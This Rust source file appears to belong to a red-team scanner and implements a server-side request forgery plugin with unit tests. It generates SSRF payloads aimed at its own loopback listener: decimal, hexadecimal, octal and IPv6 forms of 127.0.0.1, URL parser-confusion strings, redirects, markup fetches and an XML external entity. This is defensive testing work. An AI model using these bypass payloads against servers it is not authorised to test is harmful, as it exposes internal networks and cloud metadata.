//! Addresses that make a server connect to hosts that its callers cannot reach.

mod headers;

use quintain_content::registry::Meta;
use quintain_evidence::evidence::Observation;
use quintain_evidence::finding::{Place, Severity};
use quintain_evidence::weakness::Weakness;

use super::{reach, tool_actions};
use crate::attack::{
    Aim, Attack, Attempt, Brief, Hit, Kind, Listener, Need, Nonce, TargetView, Trial, Tried,
};
use crate::knowledge::words;

pub(super) struct Ssrf;

static META: Meta = Meta {
    id: "ssrf",
    aliases: &["server-side-request-forgery"],
    summary: "An address from the caller makes the server connect to its own machine or network",
    docs: "\
# What it does
Listens on the loopback address of this machine and passes that address to everything that may be an address: unchanged, in other
notations (decimal, hexadecimal, octal, short, IPv6), after a name that is not the host, through a redirect, in markup, and in HTTP
request headers from which servers build addresses: common ones, those that the server mentions, and those with the names of services that
it connects to (`X-Shop-Url`).

# Why it matters
Behind a server are databases, administration pages and cloud metadata services, which trust connections from the server.

# What counts as proof
The listener receives a connection with the random path of the attempt. If the stated purpose of a tool is to fetch the given address, the
finding is by design and low, unless the tool claims limits, or refuses the plain address and accepts another notation.

# Example
```yaml
redteam:
  plugins: [ssrf]
```

# References
- CWE-918, OWASP API7
",
    since: "0.1.0",
};

static WEAKNESS: Weakness =
    Weakness { severity: Severity::High, cwe: &[918], frameworks: &["MCP05", "ASI02", "LLM06"] };

const KINDS: [Kind; 4] = [Kind::Url, Kind::Host, Kind::Path, Kind::Other];
/// Names of arguments with text that the server renders, so that it fetches the URLs in it.
const MARKUP: [&str; 6] = ["html", "markdown", "svg", "xml", "css", "page"];
impl Attack for Ssrf {
    fn meta(&self) -> Meta {
        META
    }

    fn weakness(&self) -> Weakness<'static> {
        WEAKNESS
    }

    fn needs(&self) -> &[Need] {
        &[Need::SameHost]
    }

    fn aims(&self, view: &TargetView<'_>) -> Vec<Aim> {
        let mut aims = view.texts_in_modes(&KINDS, false);
        aims.retain(|aim| {
            aim.is(Kind::Url) || aim.is(Kind::Host) || aim.is(Kind::Path) || is_markup(aim)
        });
        if view.capabilities.http {
            aims.extend(view.surfaces.iter().map(|(server, _)| {
                let header = headers::COMMON[0].to_owned();
                let place = Place::Header { server: server.clone(), header };
                Aim { kinds: vec![Kind::Host], ..Aim::at(place) }
            }));
        }
        aims
    }

    fn attempts(&self, aim: &Aim, brief: &Brief<'_>) -> Vec<Attempt> {
        let Some(listener) = brief.listener else { return Vec::new() };
        if let Place::Header { server, .. } = &aim.place {
            return headers::attempts(server, brief, listener);
        }
        let origin = format!("{}:{}", listener.host, listener.port);
        let mut attempts = Vec::new();
        for set in 0.. {
            let nonce = brief.nonce();
            let Some((form, payload)) = addresses(aim, listener, &nonce).into_iter().nth(set)
            else {
                break;
            };
            let made = reach::attempt(aim, (set, form), nonce, payload);
            attempts.extend(made.map(|attempt| Attempt { role: origin.clone(), ..attempt }));
        }
        attempts
    }

    fn detect(&self, trial: &Trial<'_>) -> Vec<Hit> {
        if matches!(trial.aim.place, Place::Header { .. }) {
            return trial.tried.iter().flat_map(|tried| headers::hits(trial, tried)).collect();
        }
        let named = is_named(trial);
        let mut hits: Vec<Hit> = trial
            .tried
            .iter()
            .filter_map(|tried| Some(hit(trial, tried, &connection(tried, named)?)))
            .collect();
        // If nothing is filtered, other notations prove nothing more.
        if hits.iter().any(|hit| hit.fault == "unfiltered") {
            hits.retain(|hit| hit.fault == "unfiltered");
        }
        hits
    }
}

fn is_markup(aim: &Aim) -> bool {
    words(&tool_actions::last_name(aim)).iter().any(|word| MARKUP.contains(&word.as_str()))
}

/// All addresses for one mark, in the same order for each mark.
fn addresses(aim: &Aim, listener: &Listener, nonce: &Nonce) -> Vec<(&'static str, String)> {
    let (host, port) = (&listener.host, listener.port);
    let url = listener.url(nonce);
    if is_markup(aim) && aim.kinds.first() != Some(&Kind::Url) {
        let markup = format!(
            "<html><head><link rel=\"stylesheet\" href=\"{url}\"></head><body><img src=\"{url}\">\
             <iframe src=\"{url}\"></iframe>\n\n![x]({url})\n</body></html>"
        );
        let entity = format!(
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"{url}\">]><svg \
             xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{url}\"/><text>&e;</text></svg>"
        );
        return vec![("address in markup", markup), ("external entity", entity)];
    }
    let mut found = vec![("plain address", url.clone())];
    if aim.is(Kind::Host) {
        found.push(("host with a path", format!("{host}:{port}/{nonce}")));
    }
    if !aim.is(Kind::Url) && !aim.is(Kind::Host) {
        return found;
    }
    found.push(("redirect", listener.redirect(nonce)));
    if !listener.loopback {
        return found;
    }
    let at = |host: &str| format!("http://{host}:{port}/{nonce}");
    found.extend([
        ("notation: name", at("localhost")),
        ("notation: name with a dot", at("localhost.")),
        ("notation: decimal", at("2130706433")),
        ("notation: hexadecimal", at("0x7f000001")),
        // A single number: four octal numbers would be another address for a parser that reads them as decimal.
        ("notation: octal", at("017700000001")),
        ("notation: short", at("127.1")),
        ("notation: any address", at("0.0.0.0")),
        ("notation: IPv4 in IPv6", at("[::ffff:127.0.0.1]")),
        ("notation: capital letters", url.replacen("http", "HTTP", 1)),
        ("credentials before the host", at("example.com@127.0.0.1")),
        ("backslash before the host", format!("http://127.0.0.1:{port}\\@example.com/../{nonce}")),
        ("fragment after the host", format!("http://127.0.0.1:{port}/{nonce}#@example.com/")),
    ]);
    found
}

/// Whether the tool itself names the address of the listener as its source.
fn is_named(trial: &Trial<'_>) -> bool {
    let told = tool_actions::tool_of(trial.view, trial.aim).map(|tool| tool.raw().to_string());
    let origin = trial.tried.first().map(|tried| tried.attempt.role.as_str());
    told.zip(origin).is_some_and(|(told, origin)| !origin.is_empty() && told.contains(origin))
}

/// The request to the listener that proves this form. If the caller may use the address of the listener anyway, because
/// of a redirect or because the tool names it, only a request to another host name counts.
fn connection(tried: &Tried, named: bool) -> Option<String> {
    let nonce = tried.attempt.nonce.as_str();
    let elsewhere = named || tried.attempt.form == "redirect";
    tried.evidence.observations.iter().find_map(|observation| {
        let Observation::Connection { request, headers } = observation else { return None };
        let host = headers.iter().find_map(|line| {
            let (name, value) = line.split_once(':')?;
            name.eq_ignore_ascii_case("host").then(|| value.trim())
        });
        let is_other = host.is_some_and(|host| host != tried.attempt.role);
        let counts = !elsewhere || (is_other && !request.contains("/redirect/"));
        (request.contains(nonce) && counts).then(|| request.clone())
    })
}

fn hit(trial: &Trial<'_>, tried: &Tried, request: &str) -> Hit {
    let (place, form) = (&trial.aim.place, &tried.attempt.form);
    let what = format!("the listener received the request: {request}");
    let fault = match form.as_str() {
        "redirect" => "redirect",
        "address in markup" | "external entity" => "markup",
        "credentials before the host" | "backslash before the host" | "fragment after the host" => {
            "parser"
        }
        form if form.starts_with("notation") => "notation",
        _ => "unfiltered",
    };
    let title = format!("Server-side request forgery (SSRF) in `{place}` ({form})");
    let hit = Hit::confirmed(title, what).by(tried).fault(fault);
    let tool = tool_actions::tool_of(trial.view, trial.aim);
    let fetches = tool.is_some_and(tool_actions::fetches) && trial.aim.is(Kind::Url);
    if fault == "unfiltered" && fetches && !tool_actions::claims_limits(tool, &trial.aim.schema) {
        let note =
            "the stated purpose of the tool is to fetch the given address, and it claims no limits";
        return hit.severity(Severity::Low).note(note);
    }
    hit
}

#[cfg(test)]
mod tests {
    use quintain_evidence::evidence::Evidence;
    use serde_json::json;

    use super::*;
    use crate::attack::Action;
    use crate::attacks::testing::{TestTarget, answers};

    fn connected(request: String, host: &str) -> Evidence {
        let mut evidence = answers("done");
        let headers = vec![format!("Host: {host}")];
        evidence.observations.push(Observation::Connection { request, headers });
        evidence
    }

    /// The hits at a server that connects to the addresses that `lets` accepts.
    fn fetching(room: &TestTarget, lets: impl Fn(&str) -> bool) -> Vec<Hit> {
        room.run_attack(&Ssrf, |attempt| {
            let url = attempt.payload.as_ref().unwrap().as_str().unwrap();
            if lets(url) {
                connected(format!("GET /{} HTTP/1.1", attempt.nonce), "127.0.0.1:9")
            } else {
                answers(&format!("Error: refused {url}"))
            }
        })
    }

    #[test]
    fn a_connection_with_the_mark_is_proof() {
        let room = TestTarget::with_argument("subscribe", "callback", "https://example.com/");
        let hits = fetching(&room, |_| true);
        assert_eq!(hits[0].fault, "unfiltered");
        assert!(hits[0].note.is_none());
    }

    #[test]
    fn fetching_is_by_design_unless_limits_are_claimed_or_kept() {
        let open = TestTarget::with_argument("fetch_page", "url", "https://example.com/");
        let hits = fetching(&open, |_| true);
        assert!(hits[0].note.is_some() && hits[0].severity == Some(Severity::Low));
        let hits = fetching(&open, |url| url.contains("2130706433"));
        assert_eq!(hits.len(), 1);
        assert_eq!((hits[0].fault, hits[0].severity), ("notation", None));
        let mut shut = TestTarget::with_argument("fetch_page", "url", "https://example.com/");
        shut.surfaces[0].1.tools[0].0["description"] = json!("Private addresses are refused.");
        assert!(fetching(&shut, |_| true)[0].note.is_none());
    }

    #[test]
    fn echoes_and_connections_of_others_are_no_proof() {
        let room = TestTarget::with_argument("fetch_page", "url", "https://example.com/");
        assert!(fetching(&room, |_| false).is_empty());
        let other = |_: &Attempt| connected("GET /somethingelse HTTP/1.1".into(), "127.0.0.1:9");
        assert!(room.run_attack(&Ssrf, other).is_empty());
    }

    #[test]
    fn a_redirect_counts_only_where_it_leads_elsewhere() {
        let room = TestTarget::with_argument("fetch_mirror", "url", "https://example.com/");
        let follow = |host: &'static str| {
            room.run_attack(&Ssrf, move |attempt| {
                if attempt.form == "redirect" {
                    connected(format!("GET /{} HTTP/1.1", attempt.nonce), host)
                } else {
                    answers("Error: not there")
                }
            })
        };
        assert_eq!(follow("localhost:9")[0].fault, "redirect");
        assert!(follow("127.0.0.1:9").is_empty());
    }

    #[test]
    fn who_names_the_very_address_may_fetch_from_it() {
        let mut room = TestTarget::with_argument("fetch_mirror", "url", "https://example.com/");
        room.surfaces[0].1.tools[0].0["description"] = json!("Only from http://127.0.0.1:9.");
        assert!(fetching(&room, |url| url.starts_with("http://127.0.0.1:9/")).is_empty());
    }

    #[test]
    fn the_header_that_was_used_is_named() {
        let mut room = TestTarget::with_argument("show_icon", "id", "1");
        room.capabilities.http = true;
        let hits = room.run_attack(&Ssrf, |attempt| match &attempt.action {
            Action::Http(_) => connected(
                format!("GET /{}/x-forwarded-host/icon.png HTTP/1.1", attempt.nonce),
                "127.0.0.1:9",
            ),
            _ => answers("ok"),
        });
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].place.as_ref().unwrap().to_string(), "header X-Forwarded-Host");
    }
}
